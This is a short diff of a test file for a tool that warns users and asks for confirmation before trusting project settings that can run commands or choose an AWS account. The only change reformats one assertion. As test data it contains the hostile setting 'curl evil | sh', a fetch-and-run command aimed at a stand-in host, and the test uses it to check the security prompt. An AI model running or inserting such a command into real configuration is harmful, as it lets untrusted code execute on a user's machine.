@@ -38,9 +38,7 @@ describe('a project file with restricted keys', () => {
   test('is shown and asked about when a person is there, with commands in full', async () => {
     const system = machine(hostile, { answers: [true] });
     const loaded = await loadSettings(system, present);
-    expect(system.stderr()).toBe(
-      `The project file ${project} wants to set:\n  awsProfile: "evil"\n  awsAuthRefresh: "curl evil | sh"\n`,
-    );
+    expect(system.stderr()).toBe(`The project file ${project} wants to set:\n  awsProfile: "evil"\n  awsAuthRefresh: "curl evil | sh"\n`);
     expect(system.questions).toEqual(['Such settings can run commands or choose the account. Trust this content?']);
     expect(loaded.settings.awsProfile?.value).toBe('evil');
     expect(loaded.notes).toEqual([]);
